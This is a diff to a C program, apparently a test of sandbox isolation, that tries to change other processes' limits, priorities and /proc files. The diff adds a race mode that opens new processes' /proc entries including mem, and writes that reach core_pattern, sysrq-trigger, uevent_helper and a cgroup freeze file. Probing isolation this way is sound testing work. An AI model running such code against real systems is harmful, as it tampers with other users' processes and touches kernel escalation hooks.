@@ -1,5 +1,5 @@
 // A program that changes limits, priority, class, affinity and I/O class of every process but itself, or of one. The query says which:
-// "attack" or "attack:PID". "files" writes into /proc/PID; "marks" changes RLIMIT_LOCKS; "itself" changes the program's own; "stay" runs on.
+// "attack" or "attack:PID". "files" writes into /proc/PID, "race" opens these files as soon as there is a process; "marks" changes RLIMIT_LOCKS; "itself" changes the program's own; "stay" runs on.
 // "state" prints what could be changed of each thread of all other processes, but those of the attack's script: a line begins with the thread's folder.
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -13,16 +13,15 @@
 #include <sys/prctl.h>
 #include <sys/resource.h>
 #include <sys/syscall.h>
+#include <time.h>
 #include <unistd.h>
 enum { PROCESSES = 1000, IOPRIO_IDLE = 3 << 13 };
 struct attributes { unsigned size, policy; unsigned long long flags; int nice; unsigned priority; unsigned long long rest[4]; };
 
-static void put(int process, const char *file, const char *text) {
-    char path[64];
-    snprintf(path, sizeof path, "/proc/%d/%s", process, file);
-    int fd = open(path, O_WRONLY);
+static void put(const char *path, const char *text) {
+    int fd = open(path, O_WRONLY | O_CLOEXEC);
     if (fd < 0) return;
-    if (write(fd, text, strlen(text)) > 0) printf("wrote %s\n", path);
+    if (!*text || write(fd, text, strlen(text)) > 0) printf("wrote %s\n", path);
     close(fd);
 }
 // Calls that no filter refused: of a process that is not there, the kernel says ESRCH.
@@ -52,14 +51,36 @@ static void attack(int process) {
         TRY(SYS_prlimit64, p, RLIMIT_NOFILE, &soft, &soft);
     }
 }
-static void files(int process) {
-    put(process, "oom_score_adj", "1000");
-    put(process, "autogroup", "0"); // 19 would slow down all of the attack
-    put(process, "coredump_filter", "0x7f");
-    put(process, "timerslack_ns", "1000000000");
-    put(process, "clear_refs", "5");
-    put(process, "comm", "attacked");
-    put(process, "sched", "0");
+static const char *const FILES[][2] = {
+    {"oom_score_adj", "1000"},
+    {"autogroup", "0"}, // 19 would slow down all of the attack
+    {"coredump_filter", "0x7f"},
+    {"timerslack_ns", "1000000000"},
+    {"clear_refs", "5"},
+    {"comm", "attacked"},
+    {"sched", "0"},
+    {"oom_adj", "1"},
+    {"mem", ""},
+};
+static void files(int process, int only_opens) {
+    char path[64];
+    for (unsigned i = 0; i < sizeof FILES / sizeof *FILES; i++) {
+        snprintf(path, sizeof path, "/proc/%d/%s", process, FILES[i][0]);
+        put(path, only_opens ? "" : FILES[i][1]);
+    }
+}
+static void race(void) {
+    // A process is tried until it has been there for a while.
+    static int tries[1 << 16];
+    for (time_t end = time(NULL) + 2; time(NULL) < end;) {
+        DIR *folder = opendir("/proc");
+        struct dirent *entry;
+        while ((entry = readdir(folder))) {
+            int process = atoi(entry->d_name);
+            if (process > 0 && process != getpid() && process < 1 << 16 && tries[process]++ < 200) files(process, 1);
+        }
+        closedir(folder);
+    }
 }
 static void all_of(long user) {
     for (int wide = 0; wide < 2; wide++) {
@@ -142,9 +163,14 @@ int main(void) {
     }
     if (!strcmp(query, "itself")) itself();
     else if (!strcmp(query, "marks")) marks();
+    else if (!strcmp(query, "race")) race();
     else if (!strcmp(query, "files")) {
         for (int process = 1; process < PROCESSES; process++)
-            if (process != getpid()) files(process);
+            if (process != getpid()) files(process, 0);
+        put("/proc/sys/kernel/core_pattern", "");
+        put("/proc/sysrq-trigger", "");
+        put("/sys/kernel/uevent_helper", "");
+        put("/sys/fs/cgroup/galgo/cgroup.freeze", "0");
     } else if (query[6] == ':') {
         // Beside it, a user who has no process.
         all_of(4000000000);
